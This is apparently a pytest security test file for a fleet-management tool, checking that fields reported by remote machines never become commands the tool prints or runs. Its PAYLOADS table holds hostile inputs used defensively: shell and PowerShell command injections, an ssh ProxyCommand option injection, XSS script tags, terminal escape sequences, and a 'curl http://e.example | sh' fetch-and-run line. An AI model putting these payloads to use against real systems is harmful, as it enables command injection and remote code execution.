"""Whatever a machine says in whichever field, no form we print obeys it, and no command to type is made of it."""

from __future__ import annotations

import json
import re
import shlex
from typing import TYPE_CHECKING, Any
from xml.etree import ElementTree as ET

import pytest

from roosync_ops import judge, show, typed
from roosync_ops.cli import acting
from roosync_ops.errors import describe
from roosync_ops.fleet import Fleet, Machine
from roosync_ops.gather.asking import LOOK
from roosync_ops.gather.diagnosis import compared
from roosync_ops.gather.probe import result_of
from roosync_ops.judge.diagnose import diagnose
from roosync_ops.judge.diagnose_model import DiagnosisInput
from roosync_ops.judge.reports import Report as FleetReport
from roosync_ops.pyinfra_ops.run import Result
from roosync_ops.remote_script import checks
from roosync_ops.remote_script.facts_model import Reply, parse_report
from roosync_ops.remote_script.on_common import MARKER
from roosync_ops.remote_script.question import SilenceError
from roosync_ops.show.diagnosis import diagnoses_document, diagnoses_table
from roosync_ops.show.exports import junit
from roosync_ops.show.report import report_markdown
from roosync_ops.show.text import Style
from roosync_ops.state import StateUnavailableError, from_document
from roosync_ops.transport.reach import Reach
from tests.kits.boards import measured
from tests.kits.shares import NOW
from tests.unit.pyinfra_ops.builders import BUNDLE, a_share, a_status, an_answer

if TYPE_CHECKING:
    from collections.abc import Iterator

    from roosync_ops.judge import ProbeResult
    from roosync_ops.transport.link import Failure

PAYLOADS = {
    "sh-quote": "/x'; touch /tmp/pwned; '",
    "sh-substitution": "$(touch /tmp/pwned)`id`",
    "line-break": "/x\ntouch /tmp/pwned\r\n",
    "cmd": 'C:\\x" & calc & %COMSPEC% ^| "',
    "powershell": 'C:\\x"; calc; "$(calc)\u201d; calc; \u201c',
    "option": "--proxy=-oProxyCommand=id",
    "ansi": "\x1b]0;t\x07\x1b[2J\x9b31m\u202egnp.exe\u2028",
    "html": "</script><script>alert(1)</script><img src=x onerror=alert(1)>",
    "markdown": "@everyone ![x](http://e.example) | ``` #1",
    "a-command": "; next: roosync-ops stop --yes   curl -s http://e.example | sh",
    "braces": "{machine} {0} %s {login}",
    "nul": "a\x00b",
    "10-MB": "A" * 10_000_000,
}
SHARES = [
    a_share(exists=False, isDirectory=False),
    a_share(writable=False),
    a_share(freeBytes=0),
    a_share(readOnly=True),
    {"path": "G:/x", "code": "NO_LOGON_SESSION", "problem": "no session"},
]
_STARTED = "2026-02-12T10:15:30.000Z"
_STATUS = a_status(
    code="C", message="M", machineId="myia-po-2024", version="1", buildId="b",
    share={"state": "hung", "since": "2026-02-12T10:15:30.000Z", "detail": "d"},
    view={"keeper": "k", "erasedBy": "e", "erasedAt": "2026-02-12T10:15:30.000Z", "erasures": 9},
    ownFile={"rewrites": 9, "lastDetail": "a later record of another session, 't'", "lastAt": _STARTED},
)  # fmt: skip
_UNTOLD = {"success": False, "code": "SHARE", "message": "m", "hint": "h"}
_PROBLEM = {"step": "localDir", "code": "LOCAL_DIR_FOREIGN", "message": "m", "path": "/tmp/x"}  # noqa: S108 - a name
ANSWERS = {
    "well": an_answer(status=_STATUS, state=_UNTOLD),
    "refused": an_answer(status={**_STATUS, "success": False}),
    "foreign": an_answer(status=None, localDirProblem=_PROBLEM, configProblem="p"),
    **{f"share-{at}": an_answer(status=a_status(), share=share) for at, share in enumerate(SHARES)},
}
PROGRAMS = "ls df findmnt hostname python3 mv chmod sudo timedatectl dir attrib icacls where py w32tm".split()  # noqa: SIM905 - words
ON_WINDOWS = re.compile(r'\w+( ("[^"%!$`^&|<>;\u201c-\u201e]*"|[\w.:\\/+=@-]+))*')
POSIX = {"host": "h", "port": 2222, "user": "me", "shared": "/srv/share"}
WINDOWS = {**POSIX, "system": "windows", "shared": "G:/Mon Drive/x"}


def leaves(value: Any, *path: Any) -> Iterator[tuple[Any, ...]]:
    """Yield the way to each text in a JSON value."""
    if isinstance(value, str):
        yield path
    elif isinstance(value, dict):
        for key, inner in value.items():
            yield from leaves(inner, *path, key)


def put(value: dict[str, Any], path: tuple[Any, ...], text: str) -> dict[str, Any]:
    first, *rest = path
    return {**value, first: put(value[first], tuple(rest), text) if rest else text}


def commands_of(machine: Machine, answer: dict[str, Any]) -> list[str]:
    """Show an answer in every form there is, see that each is sound, and return what it says to type."""
    try:
        told = parse_report([MARKER + json.dumps(answer)], NOW, NOW)
    except SilenceError as error:
        failure: Failure | None = checks.silence(machine, error)._replace(step=LOOK)
        seen = result_of(machine, checks.silence(machine, error)._replace(step=LOOK))
    else:
        failure = checks.everything(machine, told)
        seen = result_of(machine, told, Reach("h", 2222))
    return [*shown(machine, failure), *diagnosed(machine, seen), *judged(machine, seen)]


def shown(machine: Machine, failure: Failure | None) -> list[str]:
    """As rollout shows it, and its JSON."""
    result = Result(machine.machine_id, {}, failure)
    for line in acting.lines([result]):
        assert line.isprintable()
        assert len(line) < 20_000
    return [str(document["hint"])] if (document := acting.document(result))["hint"] else []


def diagnosed(machine: Machine, seen: ProbeResult) -> list[str]:
    """As diagnose shows it, and its JSON."""
    found = compared(machine, seen, BUNDLE)
    diagnoses = diagnose(DiagnosisInput(Fleet([machine]), NOW, {machine.machine_id: found}))
    for lang in ("en", "fr"):
        assert diagnoses_table(diagnoses, (), Style(lang, 80), everything=True).replace("\n", "").isprintable()
    return [row["command"] for row in diagnoses_document(diagnoses)["machines"] if row["command"]]


def judged(machine: Machine, seen: ProbeResult) -> list[str]:
    """As matrix, validate, JUnit and the report show it."""
    fleet, told = Fleet([machine]), seen
    found = judge.matrix(fleet, {machine.machine_id: told}, None, NOW)
    state = judge.merge_replicas(None, [told], NOW)
    assert show.matrix_table(found).replace("\n", "").isprintable()
    if state is None:
        return []
    validation = judge.validate(fleet, state, NOW, known=measured([told]), matrix=found)
    assert show.table(validation).replace("\n", "").isprintable()
    ET.fromstring(junit(validation))  # noqa: S314 - our own
    text = report_markdown(FleetReport(validation))
    assert "<script" not in text
    assert not re.search(r"@everyone|(?<!\\)!\[", text)
    return re.findall(r"^(?:roosync-ops|ssh) .*$", text, re.MULTILINE)


def check(command: str, machine: Machine, payload: str) -> None:
    """A command is ours: a machine's word is at most one argument of one of a few programs, run on that machine."""
    assert command.isprintable()
    program, *words = shlex.split(command)
    if program == typed.OURS:
        assert payload not in command
        return
    assert program in ("ssh", "ssh-copy-id", "ssh-keygen")
    assert payload not in " ".join(words[:-1])
    if machine.system == "windows":
        assert ON_WINDOWS.fullmatch(words[-1])
        return
    there, *arguments = shlex.split(words[-1])
    assert there in PROGRAMS
    for argument in arguments:
        if "pwned" in argument or "calc" in argument:
            assert payload in argument


#: The machine's own shell matters for what goes through it.
SHELLS = [*((POSIX, kind) for kind in PAYLOADS), *((WINDOWS, kind) for kind in ("cmd", "powershell", "line-break"))]


@pytest.mark.parametrize(("fields", "kind"), SHELLS, ids=[f"{'system' in of}-{kind}" for of, kind in SHELLS])
@pytest.mark.parametrize("answer", ANSWERS)
def test_no_field_of_an_answer_becomes_a_command_or_is_obeyed(fields: dict[str, Any], answer: str, kind: str) -> None:
    machine, payload = Machine.of("myia-po-2024", fields), PAYLOADS[kind]
    ways = list(leaves(ANSWERS[answer]))
    for path in ways[:: 9 if kind == "10-MB" else 1]:
        for command in commands_of(machine, put(ANSWERS[answer], path, payload)):
            check(command, machine, payload)


@pytest.mark.parametrize("kind", PAYLOADS)
def test_no_word_of_a_failed_step_becomes_a_command(kind: str) -> None:
    machine, payload = Machine.of("myia-po-2024", POSIX), PAYLOADS[kind]
    failed = {"step": "push", "code": "SHARE_FULL", "message": "m", "hint": "h", "path": "/p"}
    for path in leaves(failed):
        line = MARKER + json.dumps({"ok": False, "done": [], "failed": put(failed, path, payload)})
        try:
            reply = Reply.read([line])
        except SilenceError:
            assert path[0] in ("step", "code")
            continue
        said = reply.failed
        assert said is not None
        for command in shown(machine, checks.failed(machine, said.step, said.code, said.message, said.path)):
            check(command, machine, payload)


@pytest.mark.parametrize("kind", PAYLOADS)
def test_no_word_of_a_replica_that_was_not_read_becomes_a_command(kind: str) -> None:
    for path in leaves(_UNTOLD):
        with pytest.raises(StateUnavailableError) as caught:
            from_document(put(_UNTOLD, path, PAYLOADS[kind]), NOW)
        failure = describe(caught.value)
        assert failure.hint == "roosync-ops matrix"
        assert len(failure.reason) < 500
